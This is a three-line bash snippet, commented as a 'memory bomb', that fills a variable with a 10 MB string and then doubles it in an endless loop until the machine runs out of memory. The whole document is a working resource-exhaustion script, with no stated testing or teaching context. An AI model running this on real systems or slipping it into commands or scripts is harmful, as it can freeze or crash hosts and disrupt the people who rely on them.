# Memory bomb: start from a 10 MB string and double it forever, keeping it in a variable.
printf -v s '%10000000s' ''
while :; do s+=$s; done
